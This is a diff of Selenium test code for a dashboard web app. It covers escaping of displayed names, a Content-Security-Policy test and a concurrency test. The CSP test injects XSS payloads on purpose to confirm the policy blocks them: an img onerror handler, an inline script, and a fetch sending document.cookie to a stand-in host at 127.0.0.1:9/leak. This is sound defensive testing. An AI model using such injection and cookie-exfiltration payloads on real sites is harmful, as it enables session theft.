@@ -11,7 +11,7 @@ from selenium.webdriver.common.by import By
 
 from dashboard.app import create_app
 from dashboard.serving import Serving
-from tests.dashboard.conftest import faults, served, until
+from tests.dashboard.conftest import faults, load, served, until, visit
 from tests.dashboard.traces import decode
 from tests.thorough import EVERYTHING
 from tracer import formats
@@ -49,9 +49,6 @@ def test_names_are_shown_and_nothing_of_them_is_executed(browser, runs):
     browser.get("about:blank")
     faults(browser)
     with served(runs) as address:
-        browser.get(f"{address}graph/?run={IMAGE}")
-        until(browser, lambda: browser.find_elements(By.CSS_SELECTOR, "#page nav"), "the page")
-        assert browser.execute_script("return window.hacked") is None
         keys = sorted(name.replace("/", "|") for name in NAMES)
         for shown in [keys, *([[key] for key in keys] if EVERYTHING else ())]:
             browser.get(f"{address}?{_query(*shown)}")
@@ -61,6 +58,9 @@ def test_names_are_shown_and_nothing_of_them_is_executed(browser, runs):
                 browser.find_elements(By.CSS_SELECTOR, "#page img, #page b[onclick], #page a[href^=javascript]") == []
             )
             assert browser.execute_script("return window.hacked") is None
+        visit(browser, f"{address}graph/?run={IMAGE}")
+        until(browser, lambda: IMAGE in browser.find_element(By.ID, "nothing").text, "that it has no graph")
+        assert browser.execute_script("return window.hacked") is None
         assert faults(browser) == []
         browser.get("about:blank")
 
@@ -72,26 +72,25 @@ def _query(*keys):
 
 
 @pytest.mark.browser
-def test_the_policy_stops_what_would_get_through(browser, runs):
-    with served(runs) as address:
-        browser.get(f"{address}graph/")
-        until(browser, lambda: browser.find_elements(By.CSS_SELECTOR, "#page nav"), "the page")
-        faults(browser)
-        browser.execute_script("""
-            const page = document.getElementById("page");
-            page.insertAdjacentHTML("beforeend", "<img src='data:x' onerror='window.hacked=1'>");
-            page.append(Object.assign(document.createElement("script"), {textContent: "window.hacked=1"}));
-            page.append(Object.assign(document.createElement("img"), {src: "http://127.0.0.1:9/x.png"}));
-            page.append(Object.assign(document.createElement("iframe"), {src: location.href}));
-            fetch("http://127.0.0.1:9/leak?" + document.cookie).catch(() => null);
-        """)
-        log = []
-        until(browser, lambda: log.extend(faults(browser)) or len(log) >= 5, "violations")
-        assert browser.execute_script("return window.hacked") is None
-        kinds = {kind for line in log for kind in re.findall("(script-src|img-src|connect-src|default-src)", line)}
-        assert {"script-src", "img-src", "connect-src"} <= kinds
-        browser.get("about:blank")
-        faults(browser)
+def test_the_policy_stops_what_would_get_through(browser, filled):
+    load(browser, f"{filled}graph/")
+    until(browser, lambda: browser.find_elements(By.CSS_SELECTOR, "#page nav"), "the page")
+    faults(browser)
+    browser.execute_script("""
+        const page = document.getElementById("page");
+        page.insertAdjacentHTML("beforeend", "<img src='data:x' onerror='window.hacked=1'>");
+        page.append(Object.assign(document.createElement("script"), {textContent: "window.hacked=1"}));
+        page.append(Object.assign(document.createElement("img"), {src: "http://127.0.0.1:9/x.png"}));
+        page.append(Object.assign(document.createElement("iframe"), {src: location.href}));
+        fetch("http://127.0.0.1:9/leak?" + document.cookie).catch(() => null);
+    """)
+    log = []
+    until(browser, lambda: log.extend(faults(browser)) or len(log) >= 5, "violations")
+    assert browser.execute_script("return window.hacked") is None
+    kinds = {kind for line in log for kind in re.findall("(script-src|img-src|connect-src|default-src)", line)}
+    assert {"script-src", "img-src", "connect-src"} <= kinds
+    browser.get("about:blank")
+    faults(browser)
 
 
 def test_an_upload_cut_off_in_the_middle_of_a_slice_leaves_the_server_as_it_was(tmp_path):
@@ -133,7 +132,7 @@ def test_many_at_once_while_recordings_come_and_go(tmp_path):
 
     def read():
         client = server.test_client()
-        while not stop.is_set():
+        while not stop.wait(0.05):
             for address in ("/revision", "/healthz", "/download/runs.json", "/download/gaps.csv?run=a"):
                 answer = client.get(address)
                 if answer.status_code != 200:
@@ -142,14 +141,20 @@ def test_many_at_once_while_recordings_come_and_go(tmp_path):
     threads = [threading.Thread(target=read) for _ in range(4)]
     for thread in threads:
         thread.start()
-    for number in range(4):
+    client = server.test_client()
+
+    def counted(total):
+        deadline = time.monotonic() + 60
+        while client.get("/healthz").get_json()["runs"] != {"read": total, "total": total}:
+            assert time.monotonic() < deadline, f"{total} were never read"
+            time.sleep(0.05)
+
+    for number in range(2):
         formats.write(decode(tokens=3), tmp_path / f"new{number}.json")
-        time.sleep(0.7)
-        if number % 2:
-            os.remove(tmp_path / f"new{number}.json")
-    time.sleep(2.5)
+        counted(number + 2)
+    os.remove(tmp_path / "new0.json")
+    counted(2)
     stop.set()
     for thread in threads:
         thread.join()
     assert problems == []
-    assert server.test_client().get("/healthz").get_json()["runs"] == {"read": 3, "total": 3}
